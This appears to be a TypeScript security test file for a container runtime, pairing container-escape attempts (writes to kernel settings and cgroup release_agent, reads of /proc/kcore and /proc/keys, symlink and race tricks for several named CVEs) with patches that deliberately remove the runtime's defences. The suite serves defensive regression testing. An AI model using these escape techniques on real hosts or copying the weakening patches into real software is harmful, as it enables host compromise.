/** The kernel's files, which are the whole host's: /proc, /sys, cgroups and devices. */
import {
  closeSync,
  constants,
  existsSync,
  mkdirSync,
  openSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { deviceNumber } from "../../../src/kernel/device-number.ts";
import { tarLayer } from "../../support/tar-layer.ts";
import { type Attack, lootOf, SECRET, withContainer } from "./attack.ts";

/** To open one of them for writing is as good as to change how the host works. */
const SWITCHES = [
  "/proc/sys/kernel/core_pattern",
  "/proc/sys/kernel/modprobe",
  "/proc/sys/kernel/hotplug",
  "/proc/sys/vm/panic_on_oom",
  "/proc/sys/fs/binfmt_misc/register",
  "/proc/sysrq-trigger",
  "/proc/irq/default_smp_affinity",
  "/proc/acpi/wakeup",
  "/proc/mtrr",
  "/proc/bus/pci/devices",
  "/sys/kernel/uevent_helper",
  "/sys/kernel/mm/transparent_hugepage/enabled",
  "/sys/power/state",
  "/sys/kernel/security/apparmor/.replace",
];
/** What they say is nobody's business in a container. */
const SECRETS = ["/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/interrupts"];

export const kernelFileAttacks: readonly Attack[] = [
  {
    name: "settings of the kernel's, opened for writing",
    weakening: [{ file: "src/engine/system-paths.ts", from: '  "/proc/sys",\n', to: "" }],
    attempt: async (scene) => lootOf(await scene.run(["write", ...SWITCHES])),
  },
  {
    name: "what the kernel tells about the whole host",
    weakening: [{ file: "src/engine/system-paths.ts", from: '  "/proc/timer_list",\n', to: "" }],
    attempt: async (scene) => lootOf(await scene.run(["read", ...SECRETS])),
  },
  {
    name: "CVE-2022-0492: release_agent and the other files of a cgroup",
    weakening: [
      {
        file: "src/engine/mounts.ts",
        from: '      source: "cgroup",\n      options: ["nosuid", "noexec", "nodev", ...writable],',
        to: '      source: "cgroup",\n      options: ["nosuid", "noexec", "nodev"],',
      },
    ],
    async attempt(scene) {
      const groups = existsSync("/sys/fs/cgroup/cgroup.controllers")
        ? [""]
        : ["/memory", "/devices", "/cpu", "/pids"];
      const names = ["release_agent", "notify_on_release", "cgroup.procs", "devices.allow", "memory.max"];
      const files = groups.flatMap((group) => names.map((name) => `/sys/fs/cgroup${group}/${name}`));
      return lootOf(await scene.run(["write", ...files]));
    },
  },
  {
    name: "a device of the host's by a node that the container makes",
    weakening: [
      {
        file: "src/engine/devices.ts",
        from: '    { allow: false, access: "rwm" },\n',
        to: '    { allow: true, access: "rwm" },\n',
      },
    ],
    async attempt(scene) {
      return lootOf(await scene.run(["open-device", ...hostDevice()]));
    },
  },
  {
    name: "CVE-2025-31133: a /dev/null that is a link to what is to be hidden",
    weakening: [
      {
        file: "native/monitor/mounts.c",
        from: "	if (!S_ISCHR(info.st_mode) || info.st_rdev != makedev(1, 3)) {",
        to: "	if (info.st_nlink > UINT32_MAX) {",
      },
    ],
    async attempt(scene) {
      const devices = join(scene.cli.directory, "devices");
      mkdirSync(devices, { recursive: true });
      if (!existsSync(join(devices, "null"))) symlinkSync("/proc/timer_list", join(devices, "null"));
      const flags = ["-v", `${devices}:/dev`];
      return lootOf(await scene.run(["read", "/proc/keys", "/proc/interrupts", "/proc/kcore"], { flags }));
    },
  },
  {
    name: "CVE-2025-52565: /dev/pts exchanged while the terminal is mounted on /dev/console",
    weakening: [
      {
        file: "native/monitor/mounts.c",
        from: '(int)syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC)',
        // By its name, and slow enough for the race to be won soon.
        to: '(usleep(20000), (int)syscall(SYS_open_tree, AT_FDCWD, "/dev/pts/0", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC))',
      },
    ],
    async attempt(scene) {
      const { cli } = scene;
      const trap = join(cli.directory, "false-dev");
      for (const name of ["pts", "other"]) {
        mkdirSync(join(trap, "dev", name), { recursive: true });
        if (!existsSync(join(trap, "dev", name, "0")))
          symlinkSync("/proc/timer_list", join(trap, "dev", name, "0"));
      }
      const archive = join(cli.directory, "false-dev.tar");
      writeFileSync(archive, tarLayer([{ path: "dev", type: "SymbolicLink", linkpath: "/trap/dev" }]));
      await cli.output("import", archive, "attack/false-dev");
      const volume = ["-v", `${trap}:/trap`];
      const ambush = await scene.ambush(["exchange", "/trap/dev/pts", "/trap/dev/other"], volume);
      return withContainer(scene, ambush.name, async () => {
        const victim = { image: "attack/false-dev", flags: ["-t", ...volume] };
        const got: string[] = [];
        for (let i = 0; i < 25 && got.length === 0; i++)
          got.push(...lootOf(await scene.run(["read", "/dev/console"], victim)));
        return got;
      });
    },
  },
  {
    name: "CVE-2025-52881: what tsrun writes to /proc, led to a file that the container may not write to",
    weakening: [
      {
        file: "src/runtime/plan/mounts.ts",
        from: 'const isKernels = type === "proc" || type === "sysfs";',
        to: "const isKernels = false;",
      },
      {
        file: "native/monitor/interpreter.c",
        from: 'if (strncmp(path, "/proc/", 6) == 0)',
        to: "if (path == NULL)",
      },
    ],
    async attempt(scene) {
      const { cli } = scene;
      const victim = join(cli.directory, "victim");
      const trap = join(cli.directory, "false-proc");
      writeFileSync(victim, SECRET);
      const settings = join(trap, "proc/sys/net/ipv4");
      mkdirSync(settings, { recursive: true });
      // What every container gets is there too, so that the start goes on.
      for (const name of ["ip_unprivileged_port_start", "ping_group_range"])
        writeFileSync(join(settings, name), "");
      if (!existsSync(join(settings, "ip_forward"))) symlinkSync("/victim", join(settings, "ip_forward"));
      const archive = join(cli.directory, "false-proc.tar");
      writeFileSync(archive, tarLayer([{ path: "proc", type: "SymbolicLink", linkpath: "/trap/proc" }]));
      await cli.output("import", archive, "attack/false-proc");
      const flags = ["-v", `${trap}:/trap`, "-v", `${victim}:/victim`, "-u", "1000:1000"];
      flags.push("--sysctl", "net.ipv4.ip_forward=0");
      await scene.run(["read", "/victim"], { image: "attack/false-proc", flags });
      return readFileSync(victim, "utf8") === SECRET ? [] : ["LOOT a file was overwritten"];
    },
  },
];

/** A device that the host itself may open and no container gets: kind, major, minor and name. */
function hostDevice(): string[] {
  const disks = readFileSync("/proc/partitions", "utf8")
    .split("\n")
    .slice(2)
    .flatMap((line) => line.trim().split(/\s+/)[3] ?? []);
  for (const name of [...disks, "fuse", "net/tun", "loop-control", "kvm"]) {
    const path = join("/dev", name);
    if (!existsSync(path)) continue;
    try {
      closeSync(openSync(path, constants.O_RDONLY | constants.O_NONBLOCK));
    } catch {
      continue; // no medium, or this machine is itself kept from it
    }
    const { major, minor } = deviceNumber(statSync(path).rdev);
    return [statSync(path).isBlockDevice() ? "b" : "c", String(major), String(minor), name];
  }
  throw new Error("this machine has no device that could be opened");
}
